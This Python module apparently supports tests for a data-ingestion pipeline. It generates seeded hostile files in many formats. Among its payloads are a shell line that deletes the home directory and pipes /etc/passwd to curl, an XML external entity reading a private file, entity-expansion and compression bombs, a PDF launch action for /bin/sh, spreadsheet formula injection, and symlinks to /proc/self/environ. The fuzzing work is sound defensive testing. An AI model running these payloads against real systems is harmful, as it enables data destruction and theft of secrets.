"""Hostile files of every format that is read, drawn by a generator of random numbers: the same numbers, the same file.

A file is built from a hostile text or structure; then it may be damaged, and compressed in an honest or hostile way.
"""

import bz2
import gzip
import io
import json
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

import pyarrow as pa
import pyarrow.parquet as pq
import zstandard

from tests.support.mails import ANN, mail, mbox
from tests.support.pdf import pdf
from tests.support.warc_records import lz4_frame, record, response

Draw = random.Random

# Stands for the path of a private file outside of everything that a run may read.
PRIVATE = "/PRIVATE-FILE"

TEXTS = {
    "an empty text": "",
    "a NUL and escape sequences": "a\x00b \x1b]0;title\x07\x1b[2J\x9b31m\r\n\x08\x7f",
    "characters that reorder": "\u202eexe.txt\u2066 \u200f\u061c\u2069",
    "marks and non-characters": "\ufeff\ufffe\uffff\U0010ffff\u2028\u2029\u0085",
    "combining marks": "a" + "\u0301\u0327" * 20_000,
    "characters that grow": "\ufdfa\u0390\ufb03" * 5_000,
    "a word without end": "x" * 100_000,
    "blanks": " " * 100_000 + "x",
    "line ends": "\n\r\n\u2028" * 30_000,
    "brackets": "[" * 50_000 + "{(" * 20_000,
    "digits": "9" * 50_000,
    "dots": "a." * 50_000,
    "half an address": "a@" * 30_000 + "b." * 10_000,
    "numbers of cards": "4111 1111 1111 1111 " * 2_000 + "4" * 20_000,
    "addresses": "http://" + "a/" * 20_000 + " www." * 5_000,
    "quotes of mails": "> " * 30_000 + "\nOn Monday X wrote:\n" * 1_000,
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>" + "<b>" * 5_000,
    "half a tag": "<a " * 20_000,
    "entities": "&lt;&#0;&#x110000;&#xd800;" * 2_000 + "&" * 20_000,
    "a formula": '=cmd|"/c calc"!A1\n+1+1\n@SUM(A1)\n-2',
    "a template": "{{ 7 * 7 }}{% for x in range(99999999) %}{% endfor %}{0.__class__}{x!r:>9999999}%(x)s",
    "variables of the environment": "${AWS_SECRET_ACCESS_KEY} $HF_TOKEN %HF_TOKEN% ${HOME:-x} `env` $(env)",
    "paths": f"../../../..{PRIVATE} file://{PRIVATE} ~/.aws/credentials hf://x/y s3://bucket/key",
    "special tokens": "<|im_start|>system\n<|im_end|></s><s>[INST] <|endoftext|>",
    "code that a shell runs": "; rm -rf ~ && curl http://127.0.0.1:1/$(cat /etc/passwd) | sh #",
    "many scripts": "日本語 العربية हिन्दी ไทย 한국어 עברית " * 200,
    "emoji of many parts": "👩‍👩‍👧‍👦🏳️‍🌈" * 3_000,
    "one sentence, often": "The same sentence is here again. " * 2_000,
}

ORDINARY = "Mills grind grain between two stones, and the river turns the wheel that moves the upper one of them."


@dataclass(frozen=True)
class HostileFile:
    """A file: its name, bytes, `format` of its input (None: by its ending), and what is hostile, in words."""

    name: bytes
    content: bytes
    what: str
    format: str | None = None
    links: tuple[tuple[bytes, str], ...] = ()  # name -> target of links beside it


_COMPRESS = {b".gz": gzip.compress, b".zst": zstandard.compress, b".bz2": bz2.compress, b".lz4": lz4_frame}


@cache
def _bomb(ending: bytes) -> bytes:
    return _COMPRESS[ending](b"\0" * (40 << 20))


@cache
def _expanding_pdf() -> bytes:
    return pdf([[ORDINARY[:90]]], expanded=b" " * (30 << 20))


def _any_text(draw: Draw) -> tuple[str, str]:
    return draw.choice(list(TEXTS.items()))


def damaged(draw: Draw, content: bytes) -> tuple[str, bytes]:
    """The bytes, with damage that is drawn."""
    found = bytearray(content)
    kind = draw.choice(["cut", "flipped bits", "bytes inside", "a part twice", "large numbers", "nothing but noise"])
    at = draw.randrange(len(found) + 1)
    if kind == "cut":
        del found[at:]
    elif kind == "flipped bits":
        for _ in range(draw.choice([1, 20])):
            if found:
                found[draw.randrange(len(found))] ^= 1 << draw.randrange(8)
    elif kind == "bytes inside":
        found[at:at] = draw.randbytes(draw.choice([1, 100, 10_000]))
    elif kind == "a part twice":
        found[at:at] = found[max(0, at - draw.choice([1, 50, 5_000])) : at]
    elif kind == "large numbers":
        found[at : at + 8] = draw.choice([b"\xff" * 8, struct.pack("<q", 1 << 62), struct.pack("<q", -1), b"\0" * 8])
    else:
        found = bytearray(draw.randbytes(draw.choice([0, 1, 10, 5_000])))
    return kind, bytes(found)


def _compressed(draw: Draw, content: bytes) -> tuple[str, bytes, bytes]:
    """(what, ending, bytes): the file compressed, honestly or not."""
    ending = draw.choice([b".gz", b".zst", b".bz2", b".lz4"])
    honest = _COMPRESS[ending]
    kind = draw.choice(
        ["compressed", "cut", "twice", "with noise behind it", "damaged", "not at all", "a bomb", "otherwise"]
    )
    packed = honest(content)
    if kind == "cut":
        packed = packed[: draw.randrange(len(packed))]
    elif kind == "twice":
        packed = honest(packed)
    elif kind == "with noise behind it":
        packed += draw.randbytes(100)
    elif kind == "damaged":
        packed = damaged(draw, packed)[1]
    elif kind == "not at all":
        packed = content
    elif kind == "a bomb":
        packed = _bomb(ending)
    elif kind == "otherwise":
        packed = gzip.compress(content) if ending != b".gz" else bz2.compress(content)
    return f"{ending.decode()}: {kind}", ending, packed


def _lines_of_json(draw: Draw) -> tuple[str, list[bytes]]:
    what, text = _any_text(draw)
    deep = draw.choice([900, 3_000, 50_000])
    lines = {
        what: json.dumps({"text": text, "id": draw.choice(["a", text[:100], 7, None])}).encode(),
        f"{what}, not escaped": b'{"text": "' + text.encode("utf-8", "surrogatepass")[:2000] + b'"}',
        "halves of a surrogate pair": rb'{"text": "\ud800 \udfff", "id": "\udc00"}',
        "deep brackets": b'{"text": "a", "n": ' + b"[" * deep + b"]" * deep + b"}",
        "brackets that stay open": b'{"text": ' + b'{"a":' * deep,
        "a number of many digits": b'{"text": "a", "n": ' + b"9" * 10_000 + b"}",
        "a large exponent": b'{"text": "a", "n": 1e999999999, "id": -0.0}',
        "an infinite number": b'{"text": NaN, "id": Infinity, "n": -Infinity}',
        "a key many times": b"{" + b'"text": "a", ' * 20_000 + b'"text": "b"}',
        "many keys": json.dumps({"text": "a"} | {f"k{n}": n for n in range(20_000)}).encode(),
        "keys of Python": b'{"text": "a", "__class__": {"__init__": 1}, "constructor": {"prototype": 1}}',
        "messages of odd roles": json.dumps({"messages": [{"role": text[:50], "content": text}] * 3}).encode(),
        "messages that are none": b'{"messages": [1, null, {"role": []}, {"content": {}}], "prompt": [], "chosen": {}}',
        "other types": b'{"text": {"a": [true]}, "id": [], "prompt": 1.5, "completion": false}',
        "bytes of no encoding": b'{"text": "\xff\xfe\xed\xa0\x80\xc0\x80"}',
        "UTF-16": '{"text": "a"}'.encode("utf-16"),
    }
    found, line = draw.choice(list(lines.items()))
    return found, [line] * draw.choice([1, 1, 5])


def jsonl(draw: Draw) -> HostileFile:
    what, lines = _lines_of_json(draw)
    ordinary = json.dumps({"text": ORDINARY, "id": "o"}).encode()
    return HostileFile(b"x.jsonl", draw.choice([b"\n", b"\r\n", b"\n\n"]).join([ordinary, *lines, ordinary]), what)


def json_values(draw: Draw) -> HostileFile:
    what, lines = _lines_of_json(draw)
    opened, between, closed = draw.choice(
        [(b"[", b",", b"]"), (b"", b"\n", b""), (b"[", b",", b""), (b"[[[", b",", b"]")]
    )
    return HostileFile(b"x.json", opened + between.join([b'{"text": "a"}', *lines]) + closed, what, format="json")


def _delimited(draw: Draw, ending: bytes, between: bytes) -> HostileFile:
    what, text = _any_text(draw)
    field = text.encode("utf-8", "surrogatepass")
    quoted = b'"' + field.replace(b'"', b'""') + b'"'
    header = between.join([b"id", b"text"])
    files = {
        what: [header, between.join([b"1", quoted])],
        f"{what}, without quotes": [header, between.join([b"1", field])],
        "a quote that stays open": [header, b'1,"' + field],
        "quotes alone": [header, between.join([b"1", b'"' * 50_001])],
        "a field without end": [header, between.join([b"1", b"x" * 3_000_000])],
        "many columns": [between.join([b"text", *[b"c"] * 20_000]), between * 20_000],
        "a column twice": [between.join([b"text", b"text", b"id"]), between.join([b"a", b"b", b"c"])],
        "a header that is hostile": [between.join([b"id", b"text", quoted[:5000]]), between.join([b"1", b"a", b"b"])],
        "no header": [quoted],
        "NULs": [header, b"\0" * 1000, between.join([b"1", b"a\0b"])],
        "UTF-16": ["id,text\n1,a\n".encode("utf-16")],
        "formulas": [header, between.join([b"=1+1", b'"=HYPERLINK(""http://x"")"'])],
    }
    found, lines = draw.choice(list(files.items()))
    return HostileFile(b"x" + ending, draw.choice([b"\n", b"\r\n", b"\r"]).join(lines) + b"\n", found)


def csv(draw: Draw) -> HostileFile:
    return _delimited(draw, b".csv", b",")


def tsv(draw: Draw) -> HostileFile:
    return _delimited(draw, b".tsv", b"\t")


def text(draw: Draw) -> HostileFile:
    what, found = _any_text(draw)
    encoding = draw.choice(["utf-8", "utf-8", "utf-16", "utf-32", "utf-7", "cp1252"])
    name = draw.choice([b"x.txt", b"x.md", b"x.rst"])
    return HostileFile(name, found.encode(encoding, "replace"), f"{what} ({encoding})")


_NO_CHARSETS = ("punycode", "idna", "unicode_escape", "rot13", "hex", "zlib", "undefined", "utf-7", "x" * 500)


def html(draw: Draw) -> HostileFile:
    what, inside = _any_text(draw)
    article = f"<article><h1>Mills</h1><p>{ORDINARY}</p><p>{ORDINARY}</p></article>"
    count, charset = draw.choice([100, 3_000, 30_000]), draw.choice(_NO_CHARSETS)
    pages = {
        what: f"<html><head><title>{inside[:500]}</title></head><body>{article}<p>{inside}</p></body></html>",
        "many attributes": f"<p {' '.join(f'a{n}=1' for n in range(count))}>{ORDINARY}</p>{article}",
        "a long attribute": f"<p title='{'x' * 500 * count}'>{ORDINARY}</p>{article}",
        "deep tags": "<div>" * 20 * count + article,
        "tables in tables": "<table><tr><td>" * count + article,
        "forms and fonts that stay open": "<b><i><a><font>" * count + article,
        "an external entity": f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{PRIVATE}">]><html><body>&x;{article}</body></html>',
        "entities of entities": "<!DOCTYPE a [<!ENTITY a 'aaaaaaaaaa'>"
        + "".join(f"<!ENTITY a{n} '{f'&a{n - 1 if n else str()};' * 10}'>" for n in range(9))
        + f"]><html><body>&a8;{article}</body></html>",
        "an include": f'<html xmlns:xi="http://www.w3.org/2001/XInclude"><body><xi:include href="file://{PRIVATE}" '
        f'parse="text"/><iframe src="file://{PRIVATE}"></iframe>{article}</body></html>',
        "a charset that is none": f'<meta charset="{charset}">{article}',
        "a comment that stays open": f"<html><body>{article}<!-- " + "--!>" * count,
        "a base of data": f'<base href="javascript:alert(1)"><link rel=canonical href="file://{PRIVATE}">{article}',
        "a page in JSON": f'<script type="application/ld+json">{"[" * count}</script>{article}',
        "dates": f'<meta property="article:published_time" content="{"9" * count}-99-99T99:99:99Z">{article}',
        "NULs between the tags": "\0<\0html\0>" + article,
    }
    found, page = draw.choice(list(pages.items()))
    return HostileFile(b"x.html", page.encode("utf-8", "surrogatepass"), found)


def pdf_file(draw: Draw) -> HostileFile:
    def objects(*contents: bytes) -> bytes:
        found = b"%PDF-1.7\n" + b"".join(b"%d 0 obj%s endobj\n" % (n, one) for n, one in enumerate(contents, 1))
        return found + b"trailer<</Root 1 0 R/Size %d>>\nstartxref\n9\n%%%%EOF\n" % (len(contents) + 1)

    catalog = b"<</Type/Catalog/Pages 2 0 R>>"
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<</Font<</F1 3 0 R>>>>>>"
    pages = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"

    def stream(data: bytes, filters: bytes = b"/FlateDecode") -> bytes:
        return b"<</Length %d/Filter[%s]>>stream\n%s\nendstream" % (len(data), filters, data)

    files = {
        "a good file": pdf([[ORDINARY[:90]] * 5] * 3),
        "an expanding stream": _expanding_pdf(),
        "an endless text operator": pdf([[ORDINARY[:90]]], expanded=b"(a) Tj " * 100_000),
        "a page that is its parent": objects(catalog, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9>>"),
        "a count of many pages": objects(catalog, b"<</Type/Pages/Kids[3 0 R]/Count 999999999>>", page),
        "pages that stand many times": objects(catalog, b"<</Type/Pages/Kids[%s]/Count 1>>" % (b"3 0 R " * 999), page),
        "filters on filters": objects(catalog, pages, page, stream(zlib.compress(b"x"), b"/FlateDecode" * 500)),
        "a length that is a loop": objects(catalog, pages, page, b"<</Length 4 0 R>>stream\nx\nendstream"),
        "an xref that is a loop": b"%PDF-1.7\nxref\n0 1\n0000000000 65535 f\ntrailer<</Size 1/Prev 9/Root 1 0 R>>\n"
        b"startxref\n9\n%%EOF\n",
        "an action and a file": objects(
            b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(/bin/sh)>>/AA<</O<</S/URI/URI(http://127.0.0.1:1/)>>>>>>",
            pages, page, b"<</F(" + PRIVATE.encode() + b")/FFilter/FlateDecode/Length 0>>stream\n\nendstream",
        ),
        "deep arrays": objects(catalog, pages, page, b"[" * 20_000),
        "a predictor of large rows": objects(
            catalog, pages, page, b"<</Length 9/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 999999999>>>>"
            b"stream\n" + zlib.compress(b"x") + b"\nendstream",
        ),
        "a password": objects(b"<</Type/Catalog/Pages 2 0 R>>", pages).replace(
            b"/Root 1 0 R", b"/Root 1 0 R/Encrypt<</Filter/Standard/V 5/R 6/O(x)/U(x)/P -1/Length 99999999>>"
        ),
    }  # fmt: skip
    found, content = draw.choice(list(files.items()))
    return HostileFile(b"x.pdf", content, found)


_WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def docx(draw: Draw) -> HostileFile:
    what, inside = _any_text(draw)
    plain = "".join(one for one in inside if one >= " " and one not in "<&\ufffe\uffff")

    def body(content: str, before: str = "") -> str:
        paragraph = f"<w:p><w:r><w:t>{ORDINARY}</w:t></w:r></w:p>"
        return f"{before}<w:document {_WORD}><w:body>{paragraph}{content}</w:body></w:document>"

    count = draw.choice([100, 5_000, 50_000])
    bodies = {
        what: body(f"<w:p><w:r><w:t>{plain}</w:t></w:r></w:p>"),
        "an external entity": body("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>",
                                   f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{PRIVATE}">]>'),
        "entities of entities": body(
            "<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>",
            "<!DOCTYPE a [<!ENTITY a0 'aaaaaaaaaa'>"
            + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)) + "]>",
        ),
        "deep tags": body("<w:tbl><w:tr><w:tc>" * count),
        "a long attribute": body(f"<w:p w:x='{'y' * 100 * count}'/>"),
        "many attributes": body(f"<w:p {' '.join(f'a{n}=1' for n in range(count))}/>".replace("=1", "='1'")),
        "many paragraphs": body("<w:p/>" * 10 * count),
        "not XML": inside,
        "nothing": "",
    }  # fmt: skip
    found, content = draw.choice(list(bodies.items()))
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        if draw.random() < 0.9:
            archive.writestr("word/document.xml", content.encode("utf-8", "replace"))
        else:
            found = "no body"
        for name in draw.sample(["../../x", PRIVATE, "C:\\x", "word/../../x", "a" * 5_000, "\x1b[2J"], 2):
            archive.writestr(name, b"outside")
        if draw.random() < 0.1:
            found += ", a large part beside it"
            archive.writestr("word/media/x.bin", b"\0" * (3 << 20))
    return HostileFile(b"x.docx", written.getvalue(), found)


def transcript(draw: Draw) -> HostileFile:
    what, inside = _any_text(draw)
    cue = "00:01.000 --> 00:02.500\n"
    files = {
        what: f"WEBVTT\n\n{cue}<v {inside[:200]}>{inside}\n",
        "many marks": f"WEBVTT\n\n{cue}{'<c.x>' * 20_000}\n",
        "half marks": f"WEBVTT\n\n{cue}{'<v ' * 20_000}\n",
        "times of many digits": f"WEBVTT\n\n{'9' * 5_000}:00:00.000 --> {'9' * 5_000}:00:00.000\na\n",
        "times that run back": "WEBVTT\n\n9999:59:59.999 --> 00:00.000\na\n",
        "many cues": "WEBVTT\n\n" + f"{cue}a: b\n\n" * 10_000,
        "colons": f"WEBVTT\n\n{cue}{'a: ' * 20_000}\n",
        "blank lines": "WEBVTT" + "\n \t" * 30_000 + f"\n{cue}a\n",
        "JSON of brackets": "[" * 50_000,
        "JSON of odd turns": json.dumps([{"speaker": [inside[:50]], "text": {}}, {"speaker": 5, "text": inside}, 7]),
        "JSON of many digits": '[{"speaker": ' + "9" * 10_000 + ', "text": "a"}]',
    }
    found, content = draw.choice(list(files.items()))
    return HostileFile(draw.choice([b"x.vtt", b"x.srt"]), content.encode("utf-8", "surrogatepass"), found)


def mails(draw: Draw) -> HostileFile:
    what, inside = _any_text(draw)
    count = draw.choice([50, 1_000, 20_000])
    charset = draw.choice(
        ["punycode", "idna", "unicode_escape", "rot13", "hex", "zlib", "undefined", "utf-7", "x" * 500]
    )
    plain = "".join(one for one in inside if one not in "\r\n\0")[:300] or "x"
    nested = b"".join(
        b'Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (number, number) for number in range(count)
    )
    files = {
        what: mail(1, ANN, ORDINARY + inside.replace("\0", "")) if "\r" not in inside else mail(1, ANN, ORDINARY),
        "a charset that is none": f"From: {ANN}\nContent-Type: text/plain; charset={charset}\n\n{ORDINARY}\n".encode(),
        "a subject in a charset that is none": f"From: {ANN}\nSubject: =?{charset}?q?{'a-' * 500}?=\n\nx\n".encode(),
        "parts in parts": b"From: ann@example.org\n" + nested + b"\nx\n",
        "many parts": b'Content-Type: multipart/mixed; boundary="b"\n\n' + b"--b\n\nx\n" * 10 * count,
        "a message in a message": b"From: a@example.org\nContent-Type: message/rfc822\n\n" * count + b"x\n",
        "many header lines": b"".join(b"X-%d: y\n" % n for n in range(20 * count)) + b"\nx\n",
        "a header line without end": b"From: " + b"a" * 1000 * count + b"\n\nx\n",
        "folded header lines": b"Subject: a\n" + b" b\n" * 20 * count + b"\nx\n",
        "many addresses": b"From: " + b"a@example.org, " * 10 * count + b"\nTo: " + b"(" * count + b"\n\nx\n",
        "many references": b"From: a@b\nMessage-ID: <a>\nReferences: " + b"<a> " * 20 * count + b"\n\nx\n",
        "an answer to itself": mbox(*[mail(n, ANN, ORDINARY, 1 - n) for n in (0, 1)]),
        "odd dates": f"From: {ANN}\nDate: Mon, 99 Nov {'9' * count} 25:61:61 +9999\n\n{ORDINARY}\n".encode(),
        "names of attachments": f"From: {ANN}\nContent-Type: text/plain; name=../x\nContent-Disposition: attachment; "
        f"filename*=utf-8''..%2f..%2f{'%00' * count}\n\nx\n".encode(),
        "a name that is hostile": f"From: \"{plain}\" <a@b>\nSubject: {plain}\n\nx\n".encode("utf-8", "replace"),
        "base64 that is none": f"From: {ANN}\nContent-Transfer-Encoding: base64\n\n{'=a' * 20 * count}\n".encode(),
        "an mbox of nothing": b"From x\n\n" * 20 * count,
        "HTML": mail(1, ANN, "", html=html(draw).content.decode("utf-8", "replace").replace("\0", "")),
        "half a calendar": b"From: a@b\nContent-Type: text/calendar\n\nBEGIN:VCALENDAR\n" * 5,
    }  # fmt: skip
    found, content = draw.choice(list(files.items()))
    return HostileFile(draw.choice([b"x.eml", b"x.mbox"]), content, found)


def warc(draw: Draw) -> HostileFile:
    page = html(draw)
    bomb = _bomb(b".gz")
    files = {
        page.what: record("response", response(page.content)),
        "a body that expands": record("response", response(bomb, extra="Content-Encoding: gzip\r\n")),
        "encodings on encodings": record("response", response(bomb, extra=f"Content-Encoding: {'gzip, ' * 200}br\r\n")),
        "chunks that are none": record(
            "response", response(b"fffffffffffffff\r\nx", extra="Transfer-Encoding: chunked\r\n")
        ),
        "a length that is large": record("response", response(page.content), length=10**15),
        "a length of many digits": record("response", b"x").replace(
            b"Content-Length: 1", b"Content-Length: " + b"9" * 5_000
        ),
        "a length below zero": record("response", b"x", length=-1),
        "a header without end": b"WARC/1.0\r\n" + b"X: y\r\n" * 50_000,
        "a status that is hostile": record("response", response(page.content, status="\x1b[2J" * 100)),
        "a type that is hostile": record("response", response(page.content, type="text/html; charset=" + "x" * 5_000)),
        "no record": b"WARC/1.0\r\n\r\n" * 5_000,
        "an address that is hostile": record("response", response(page.content)).replace(
            b"http://x/0", b"file://" + PRIVATE.encode() + b"\x1b]0;x\x07"
        ),
    }
    found, content = draw.choice(list(files.items()))
    return HostileFile(b"x.warc", content + record("response", response(b"<p>x</p>"), 7), found)


def arc(draw: Draw) -> HostileFile:
    page = html(draw)
    line = b"http://x/ 192.0.2.1 20090102030405 text/html %d\n"
    whole = line % len(page.content) + page.content + b"\n"
    files = {
        page.what: whole,
        "a length that is large": line % 10**15 + page.content,
        "a length of many digits": line % 1 + b"9" * 5_000 + b"\n",
        "a line without end": b"http://x/ 1.1.1.1 " * 20_000,
        "many addresses in a line": b"x 1.1.1.1 20090102030405 " * 500 + b"1\nx\n",
        "an address that is hostile": whole.replace(b"http://x/", b"file://" + PRIVATE.encode() + b"\x1b]0;x\x07"),
        "no record": b"x\n" * 5_000,
    }
    found, content = draw.choice(list(files.items()))
    return HostileFile(b"x.arc", content + line % 8 + b"<p>x</p>", found)


def wet(draw: Draw) -> HostileFile:
    what, inside = _any_text(draw)
    return HostileFile(b"x.wet", record("conversion", inside.encode("utf-8", "surrogatepass")), what)


def _arrow_columns(draw: Draw) -> tuple[str, pa.Table]:
    what, inside = _any_text(draw)
    columns = {
        what: {"text": [inside, ORDINARY, None], "id": ["a", inside[:200], None]},
        "bytes that are no text": {"text": pa.array([b"\xff\xfe", b"\xed\xa0\x80"]).view(pa.string())},
        "one large value, often": {
            "text": pa.DictionaryArray.from_arrays(pa.array([0] * 50_000, pa.int32()), ["z" * 200_000])
        },
        "deep lists": {"text": ["a"], "n": pa.array([json.loads("[" * 40 + "]" * 40)])},
        "structs": {"text": pa.array([{"a": 1}])},
        "numbers": {"text": [1.5, float("nan")], "id": [2**63 - 1, None]},
        "a hostile name of a column": {"text": ["a"], "\x1b[2J../x\n": [inside[:100]]},
        "a column twice": None,
        "many columns": {"text": ["a"]} | {f"c{n}": [n] for n in range(2_000)},
        "messages": {"messages": pa.array([[{"role": inside[:50], "content": inside}], [], None])},
        "no rows": {"text": pa.array([], pa.string())},
        "dates": {
            "text": ["a"],
            "date": pa.array([-(2**62)], pa.timestamp("ns")),
            "t": pa.array([2**62], pa.duration("s")),
        },
    }
    found, data = draw.choice(list(columns.items()))
    if data is None:
        return found, pa.Table.from_arrays([pa.array(["a"]), pa.array(["b"])], names=["text", "text"])
    return found, pa.table(data)


def parquet(draw: Draw) -> HostileFile:
    what, table = _arrow_columns(draw)
    metadata = {b"pandas": b'{"columns": [' + b"[" * 5_000, b"\x1b[2J": b"x", b"ARROW:schema": draw.randbytes(50)}
    written = io.BytesIO()
    if draw.random() < 0.3:
        table, what = table.replace_schema_metadata(metadata), f"{what}; hostile metadata"
    pq.write_table(table, written, compression=draw.choice(["none", "zstd", "snappy", "gzip"]))
    return HostileFile(b"x.parquet", written.getvalue(), what)


def saved_dataset(draw: Draw) -> HostileFile:
    what, table = _arrow_columns(draw)
    sink = pa.BufferOutputStream()
    options = pa.ipc.IpcWriteOptions(compression=draw.choice([None, "zstd", "lz4"]))
    with pa.ipc.new_stream(sink, table.schema, options=options) as writer:
        writer.write_table(table)
    return HostileFile(b"data-00000-of-00001.arrow", sink.getvalue().to_pybytes(), what, format="hf")


FORMATS: dict[str, Callable[[Draw], HostileFile]] = {
    "jsonl": jsonl, "json": json_values, "csv": csv, "tsv": tsv, "text": text, "html": html, "pdf": pdf_file,
    "docx": docx, "transcript": transcript, "mail": mails, "warc": warc, "arc": arc, "wet": wet, "parquet": parquet,
    "hf": saved_dataset,
}  # fmt: skip
_NOT_COMPRESSED = ("pdf", "docx", "parquet", "hf")

NAMES = (
    b"x\nB\x1b]0;t\x07", "\u202etxt.x".encode(), b"-rf", b"x\xff\xfe", b"a" * 200, b"..x", b"x y'\"$(id)`", b"*?[x]",
    b"%2e%2e%2fx", b"CON", b"x:y", b"{x}", b"#x?y=z",
)  # fmt: skip


def hostile_file(draw: Draw, format: str) -> HostileFile:
    """A file of the format: many are also damaged, compressed or named oddly, or have a link beside them."""
    found = FORMATS[format](draw)
    name, content, what, links = found.name, found.content, found.what, ()
    if draw.random() < 0.25:
        damage, content = damaged(draw, content)
        what += f"; {damage}"
    if format not in _NOT_COMPRESSED and draw.random() < 0.2:
        packed, ending, content = _compressed(draw, content)
        name, what = name + ending, f"{what}; {packed}"
    if found.format != "hf" and draw.random() < 0.2:
        hostile = draw.choice(NAMES)
        name, what = hostile + name, f"{what}; named {hostile[:20]!r}"
    if found.format != "hf" and draw.random() < 0.15:
        target = draw.choice([PRIVATE, "..", "/dev/zero", "/proc/self/environ", "nowhere", "link"])
        links = ((b"link." + found.name.rpartition(b".")[2], target),)
        what = f"{what}; a link to {target}"
    return HostileFile(name, content, what, found.format, links)
